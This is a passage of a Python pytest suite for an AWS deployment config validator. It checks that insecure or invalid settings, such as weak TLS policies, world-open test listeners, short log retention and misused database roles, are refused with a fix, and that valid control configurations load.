    Case("security", "a secret that is not an ARN", "service.secrets.API_TOKEN.arn", ("is not a Secrets Manager secret or SSM parameter ARN", "arn:aws:secretsmanager:<region>"), set_("service.secrets", {"API_TOKEN": "my-token-name"}),),
    Case("security", "a secret's key that is not a KMS key", "service.secrets.API_TOKEN.kms_key_arn", ("is not a KMS key ARN",), set_("service.secrets", {"API_TOKEN": {"arn": "arn:aws:ssm:eu-west-1:111111111111:parameter/app/token", "kms_key_arn": "alias/app"}}),),
    Case("security", "a variable both plain and secret", "service.secrets.FEATURE", ("is also in service.environment",), chain(("service.environment", {"FEATURE": "on"}), ("service.secrets", {"FEATURE": "arn:aws:ssm:eu-west-1:111111111111:parameter/app/feature"})),),
    Case("security", "a TLS policy without TLS 1.3", "load_balancer.ssl_policy", ("ELBSecurityPolicy-TLS13-1-2-Res-2021-06",), set_("load_balancer.ssl_policy", "ELBSecurityPolicy-2016-08"),),
    Case("security", "a TLS 1.3 policy with ciphers that lose forward secrecy", "load_balancer.ssl_policy", ("ELBSecurityPolicy-TLS13-1-2-Res-2021-06",), set_("load_balancer.ssl_policy", "ELBSecurityPolicy-TLS13-1-2-Ext1-2021-06"),),
    Case("security", "the app's role is the master", "database.app_username", ("is the same role as master_username",), set_("database.app_username", "app_admin"),),
    Case("security", "the app's role owns the tables", "database.app_username", ("is the same role as owner_role",), set_("database.app_username", "app_owner"),),
    Case("production", "production with a TLS 1.2 policy", "load_balancer.ssl_policy", ("must be a restricted TLS 1.3 policy in production",), set_("load_balancer.ssl_policy", "ELBSecurityPolicy-TLS13-1-2-2021-06"), base="prod",),
    Case("production", "production without a WAF", "load_balancer.managed_waf", ("must be true in production unless load_balancer.waf_web_acl_arn",), set_("load_balancer.managed_waf", False), base="prod",),
    Case("production", "production test listener open to the world", "load_balancer.test_ingress_cidrs", ("opens the test listener",), set_("load_balancer.test_ingress_cidrs", ["0.0.0.0/0"]), base="prod",),
    Case("production", "production without the test hook", "deployment.test_hook", ("must be true in production",), set_("deployment.test_hook", False), base="prod",),
    Case("production", "production with a writable root filesystem", "service.readonly_root_filesystem", ("must be true in production",), set_("service.readonly_root_filesystem", False), base="prod",),
    Case("production", "production container logs kept a month", "service.log_retention_days", ("keeps logs for fewer than 365 days in production", "set service.log_retention_days: 365 or more"), set_("service.log_retention_days", 30), base="prod",),
    Case("production", "production flow logs kept three months", "networking.flow_log_retention_days", ("keeps logs for fewer than 365 days in production",), set_("networking.flow_log_retention_days", 90), base="prod",),
    Case("production", "production access logs kept three months", "load_balancer.access_log_retention_days", ("keeps logs for fewer than 365 days in production",), set_("load_balancer.access_log_retention_days", 90), base="prod",),
    Case("production", "production without deletion protection", "database.deletion_protection", ("must be true in production",), set_("database.deletion_protection", False), base="prod",),
    Case("production", "production with a single NAT", "networking.nat_mode", ("must be per_az in production",), set_("networking.nat_mode", "single"), base="prod",),
    Case("production", "production database pausing", "database.serverless_v2.min_acu", ("is not allowed in production",), chain(("database.instance_class", DROP), ("database.serverless_v2", {"min_acu": 0, "max_acu": 4}), ("dr", DROP)), base="prod",),
]
# fmt: on
# A folder given as a config file.
CASES = [c for c in CASES if c.id != "a folder"]


def run(tmp_path: Path, case: Case) -> str:
    file = tmp_path / "env.yaml"
    if case.raw is not None:
        file.write_bytes(case.raw)
    else:
        assert case.change is not None
        file.write_text(yaml.safe_dump(case.change(copy.deepcopy(SHIPPED[case.base])), allow_unicode=True))
    with pytest.raises(ConfigError) as caught:
        load_config(file)
    return caught.value.render().replace(f"{file}: ", "")


def assert_clean(message: str) -> None:
    for line in message.splitlines():
        where, _, rest = line.partition(": ")
        assert where and rest, line
        what, _, fix = rest.rpartition("; ")
        assert what and fix.strip(), f"no fix: {line}"
        assert not FOREIGN.search(rest), f"foreign wording or a generic fix: {line}"


@pytest.mark.parametrize("case", CASES, ids=[f"{c.klass}: {c.id}" for c in CASES])
def test_refused_with_key_and_fix(tmp_path: Path, case: Case) -> None:
    message = run(tmp_path, case)
    assert_clean(message)
    lines = [line for line in message.splitlines() if line.split(": ", 1)[0] == case.key]
    assert lines, f"no problem names {case.key}:\n{message}"
    for fragment in case.expect:
        assert any(fragment in line for line in lines), f"{fragment!r} not in:\n" + "\n".join(lines)
    for secret in case.hide:
        assert secret not in message, f"the secret was printed:\n{message}"


def test_every_class_is_covered_thoroughly() -> None:
    counts = Counter(case.klass for case in CASES)
    assert sum(counts.values()) >= 200, counts
    for klass in (
        "yaml",
        "duplicates",
        "names",
        "regions",
        "arns",
        "network",
        "schedules",
        "limits",
        "engines",
        "api models",
        "commands",
        "secrets",
        "grants",
    ):
        assert counts[klass] >= 6, (klass, counts)
    assert len({(c.klass, c.id) for c in CASES}) == len(CASES), "case ids repeat"


def test_a_folder_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        load_config(tmp_path)
    assert "is a folder, not a file; name a .yaml file" in caught.value.render()


def test_the_bomb_is_refused_in_well_under_a_second(tmp_path: Path) -> None:
    import time

    file = tmp_path / "bomb.yaml"
    file.write_text(BOMB)
    started = time.perf_counter()
    with pytest.raises(ConfigError, match="expands to more than"):
        load_config(file)
    assert time.perf_counter() - started < 0.2


# --- controls: configs AWS accepts must pass ---------------------------------------------------

CARVED_DEV = {
    "public_subnets": ["10.10.0.0/20", "10.10.16.0/20", "10.10.32.0/20"],
    "private_subnets": ["10.10.48.0/20", "10.10.64.0/20", "10.10.80.0/20"],
    "database_subnets": ["10.10.96.0/20", "10.10.112.0/20", "10.10.128.0/20"],
}

CONTROLS: list[tuple[str, str, Callable[[dict[str, Any]], dict[str, Any]]]] = [
    *[(f"shipped {env}", env, lambda d: d) for env in sorted(SHIPPED)],
    (
        "explicit subnets equal to the carved ones",
        "dev",
        lambda d: put(d, "networking", {**d["networking"], **CARVED_DEV}),
    ),
    (
        "one tier listed, the others carved around it",
        "dev",
        set_("networking.public_subnets", ["10.10.0.0/20", "10.10.16.0/20", "10.10.32.0/20"]),
    ),
    (
        "a listed tier away from the start",
        "dev",
        set_("networking.database_subnets", ["10.10.240.0/24", "10.10.241.0/24", "10.10.242.0/24"]),
    ),
    (
        "explicit zones equal to the default",
        "dev",
        set_("networking.availability_zones", ["eu-west-1a", "eu-west-1b", "eu-west-1c"]),
    ),
    (
        "Tokyo's zones a, c and d by default",
        "dev",
        chain(("region", "ap-northeast-1"), ("load_balancer.certificate_arn", cert("ap-northeast-1"))),
    ),
    (
        "us-west-1 with its two zones listed",
        "dev",
        chain(
            ("region", "us-west-1"),
            ("load_balancer.certificate_arn", cert("us-west-1")),
            ("networking.az_count", 2),
            ("networking.availability_zones", ["us-west-1b", "us-west-1c"]),
        ),
    ),
    ("172.16/12 and 192.168/16 ranges", "dev", set_("networking.vpc_cidr", "172.31.0.0/16")),
    (
        "a /23 VPC carved in /27s",
        "dev",
        chain(("networking.vpc_cidr", "192.168.10.0/23"), ("networking.subnet_prefix_length", 27)),
    ),
    ("cron with lists, ranges and steps", "dev", schedule("cron(0/15 8-18 ? JAN-MAR,OCT MON-FRI 2030-2040)")),
    ("cron on the last weekday and nth weekday", "dev", schedule("cron(0 7 LW * ? *)")),
    ("cron with MON#1", "dev", schedule("cron(30 6 ? * MON#1 *)")),
    ("rate of one hour", "dev", schedule("rate(1 hour)")),
    ("rate of 30 minutes", "dev", schedule("rate(30 minutes)")),
    ("at a moment", "dev", schedule("at(2030-01-31T18:00:00)")),
    ("time zones by IANA name", "dev", schedule("cron(0 7 ? * * *)", timezone="America/Argentina/Buenos_Aires")),
    ("Etc time zone", "dev", schedule("cron(0 7 ? * * *)", timezone="Etc/GMT+9")),
    ("maintenance across the week's end", "dev", set_("database.preferred_maintenance_window", "sat:23:30-sun:00:30")),
    ("backup window across midnight", "dev", set_("database.preferred_backup_window", "23:30-00:30")),
    ("accented tag values", "dev", set_("tags", {"équipe": "plateforme données"})),
    ("45 tags", "dev", set_("tags", {f"key{i}": "v" for i in range(45)})),
    ("app path with folders and dots", "dev", set_("pipeline.app_path", "./services/web.app")),
    ("branch with slashes", "dev", set_("pipeline.branch", "release/2030.1")),
    ("ARM64 without Spot", "dev", set_("service.cpu_architecture", "ARM64")),
    ("256 ACUs on 16.4", "dev", set_("database.serverless_v2", {"min_acu": 0.5, "max_acu": 256})),
    (
        "a provisioned class",
        "dev",
        chain(("database.serverless_v2", DROP), ("database.instance_class", "db.r7g.2xlarge")),
    ),
    ("a newer engine", "dev", set_("database.engine_version", "17")),
    (
        "a pinned minor, upgraded by hand",
        "dev",
        chain(("database.engine_version", "17.5"), ("database.auto_minor_version_upgrade", False)),
    ),
    ("YAML anchors and merge keys", "dev", lambda d: d),
    # ECS accepts bakes and steps of up to a day; the release step follows a release for up to
    # 470 minutes, so the longest accepted are those that fit (the refusals above hold the rest).
    (
        "ECS linear step of 3 percent",
        "sandbox",
        chain(
            ("deployment.traffic", {"type": "linear", "percent": 3, "every_minutes": 13}),
            ("deployment.termination_wait_minutes", 11),
        ),
    ),
    (
        "ECS-native release as long as the release step waits",
        "sandbox",
        chain(("deployment.traffic", {"type": "all_at_once"}), ("deployment.termination_wait_minutes", 440)),
    ),
    (
        "60 security group rules exactly",
        "dev",
        set_("load_balancer.ingress_cidrs", [f"198.51.{i}.0/24" for i in range(29)]),
    ),
    (
        "an existing connection",
        "dev",
        set_(
            "pipeline.connection_arn",
            "arn:aws:codestar-connections:eu-west-1:111111111111:connection/00000000-0000-4000-8000-000000000001",
        ),
    ),
    (
        "one grant of each kind",
        "dev",
        set_(
            "service.grants",
            [
                {"type": "s3", "bucket": "shop-uploads", "prefix": "uploads/", "access": "read_write"},
                {"type": "s3", "bucket": "arn:aws:s3:::partner-drop", "access": "write", "account": "222222222222"},
                {"type": "sqs", "queue": "arn:aws:sqs:eu-west-1:111111111111:orders.fifo", "access": "send_receive"},
                {"type": "sns", "topic": "arn:aws:sns:eu-west-1:111111111111:order-events"},
                {"type": "ssm", "path": "/shop/api/"},
                {
                    "type": "kms",
                    "key": "arn:aws:kms:eu-west-1:111111111111:key/mrk-" + "0" * 32,
                    "use": "decrypt",
                    "via": "ssm",
                },
            ],
        ),
    ),
    (
        "another account's queue, topic and key, said so",
        "dev",
        set_(
            "service.grants",
            [
                {
                    "type": "sqs",
                    "queue": "arn:aws:sqs:eu-west-1:222222222222:in",
                    "access": "receive",
                    "cross_account": True,
                },
                {"type": "sns", "topic": "arn:aws:sns:eu-west-1:222222222222:out", "cross_account": True},
                {
                    "type": "kms",
                    "key": "arn:aws:kms:eu-west-1:222222222222:key/00000000-0000-4000-8000-000000000001",
                    "use": "encrypt_decrypt",
                    "cross_account": True,
                },
            ],
        ),
    ),
    ("20 grants", "dev", set_("service.grants", [{"type": "ssm", "path": f"/shop/p{i}/"} for i in range(20)])),
    ("state key by alias", "dev", set_("state.kms_key_id", "alias/terraform-state")),
    (
        "state key of another account",
        "dev",
        set_("state.kms_key_id", "arn:aws:kms:eu-west-1:999999999999:key/00000000-0000-4000-8000-000000000001"),
    ),
]


@pytest.mark.parametrize(("base", "change"), [c[1:] for c in CONTROLS], ids=[c[0] for c in CONTROLS])
def test_controls_pass(tmp_path: Path, base: str, change: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
    file = tmp_path / "env.yaml"
    file.write_text(yaml.safe_dump(change(copy.deepcopy(SHIPPED[base])), allow_unicode=True))
    load_config(file)


def test_explicit_subnets_equal_to_the_carved_ones_give_the_same_plan(tmp_path: Path) -> None:
    carved = load_config(ROOT / "config" / "dev.yaml").networking.tiers
    file = tmp_path / "env.yaml"
    file.write_text(yaml.safe_dump(put(SHIPPED["dev"], "networking", {**SHIPPED["dev"]["networking"], **CARVED_DEV})))
    assert load_config(file).networking.tiers == carved


def test_anchors_aliases_and_merge_keys_read_like_the_plain_file(tmp_path: Path) -> None:
    text = DEV_YAML.replace(
        "service:\n",
        "x-defaults: &schedule {timezone: Europe/Amsterdam, min_tasks: 0, max_tasks: 0}\nservice:\n",
    )
    file = tmp_path / "env.yaml"
    file.write_text(text)
    with pytest.raises(ConfigError, match="x-defaults: is not a known key"):
        load_config(file)
    anchored = DEV_YAML.replace(
        "      - {name: night, schedule: 'cron(0 19 ? * * *)', timezone: Europe/Amsterdam, min_tasks: 0, max_tasks: 0}",
        "      - &night {name: night, schedule: 'cron(0 19 ? * * *)', timezone: Europe/Amsterdam, min_tasks: 0, max_tasks: 0}",
    ).replace(
        "      - {name: morning, schedule: 'cron(0 7 ? * MON-FRI *)', timezone: Europe/Amsterdam, min_tasks: 1, max_tasks: 2}",
        "      - {<<: *night, name: morning, schedule: 'cron(0 7 ? * MON-FRI *)', min_tasks: 1, max_tasks: 2}",
    )
    assert anchored != DEV_YAML
    file.write_text(anchored)
    assert load_config(file) == load_config(ROOT / "config" / "dev.yaml")
